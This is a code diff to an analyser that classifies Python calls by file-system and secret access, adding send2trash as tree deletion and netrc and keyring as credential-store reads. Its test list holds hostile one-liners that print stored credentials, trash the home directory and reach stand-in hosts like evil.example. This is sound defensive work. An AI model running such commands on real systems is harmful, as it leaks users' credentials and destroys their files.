@@ -65,6 +65,9 @@ const APIS = new Map<string, Spec>([
   ...['os.link', 'os.symlink'].map((n): [string, Spec] => [n, { uses: [[[0, 'src'], 'read'], [[1, 'dst'], 'write']] }]),
   ...['os.remove', 'os.unlink', 'os.rmdir', 'os.removedirs'].map((n): [string, Spec] => [n, { uses: [[[0, 'path'], 'delete']] }]),
   ['shutil.rmtree', { uses: [[[0, 'path'], 'delete-tree']] }],
+  // send2trash moves a tree out of reach of the project as rmtree does.
+  ['send2trash.send2trash', { uses: [[[0, 'paths'], 'delete-tree']] }],
+  ['send2trash', { uses: [[[0, 'paths'], 'delete-tree']] }],
   ...['os.mkdir', 'os.makedirs'].map((n): [string, Spec] => [n, { uses: [[[0, 'name'], 'create']] }]),
   ['shutil.unpack_archive', { uses: [[[0, 'filename'], 'read'], [[1, 'extract_dir'], 'extract']] }],
   ['shutil.make_archive', { uses: [[[2, 'root_dir'], 'read-tree'], [[0, 'base_name'], 'write']] }],
@@ -886,6 +889,9 @@ class PythonReader {
           const file = argAt(this.callOf(n, name), [0, name === 'pandas.read_pickle' ? 'filepath_or_buffer' : name === 'torch.load' ? 'f' : name === 'numpy.load' ? 'file' : 'filename']);
           this.out.push({ kind: 'load', api: name, span: span(n), path: file ? wordOf(file) : { text: n.text, span: span(n), values: null, dynamic: 'no file is named' } });
         }
+        // Stores of secrets read through a library: netrc() without a file reads ~/.netrc; keyring the login keyring.
+        const store = name === 'netrc.netrc' && this.callOf(n, name).args.length === 0 ? '~/.netrc' : /^keyring\.(?:get_password|get_credential)$/.test(name) ? '~/.local/share/keyrings/' : undefined;
+        if (store) this.out.push({ kind: 'path', role: 'read', path: { text: n.text, span: span(n), values: [store] }, api: name });
         if (name === 'vars' || name === 'globals' || name === 'locals') this.out.push({ kind: 'dynamic', rule: 'dynamic-code', span: span(n), why: `${name}() reaches names by computed keys` });
         // A variable whose name is computed may be each of them in turn, as `os.environ[key]` is.
         if ((name === 'os.getenv' || name === 'os.getenvb') && this.computedKey(n, 'key')) this.out.push({ kind: 'environment', api: name, span: span(n) });
@@ -1147,6 +1153,9 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'from dotenv import dotenv_values; print(dotenv_values())'`,
       `python3 -c 'import psycopg2; psycopg2.connect(host="db.evil.example", dbname="x")'`,
       `python3 -c 'import git; git.Repo.clone_from("git@evil.example:x/y.git", "y")'`,
+      `python3 -c 'import netrc; print(netrc.netrc().authenticators("api.example"))'`,
+      `python3 -c 'import keyring; print(keyring.get_password("svc", "user"))'`,
+      `python3 -c 'import send2trash, os; send2trash.send2trash(os.path.expanduser("~"))'`,
     ],
     pass: [
       `python3 -c 'import pandas as pd; print(pd.read_csv("data/x.csv"))'`,
@@ -1187,6 +1196,8 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'from dotenv import dotenv_values; cfg = dotenv_values(); print(len(cfg))'`,
       `python3 -c 'import psycopg2; psycopg2.connect(host="localhost", dbname="x")'`,
       `python3 -c 'import uvicorn; uvicorn.run("app.main:app", host="10.0.0.5")'`,
+      `python3 -c 'import netrc; print(netrc.netrc("netrc.test").hosts)'`,
+      `python3 -c 'import send2trash; send2trash.send2trash("build")'`,
     ],
   },
 };
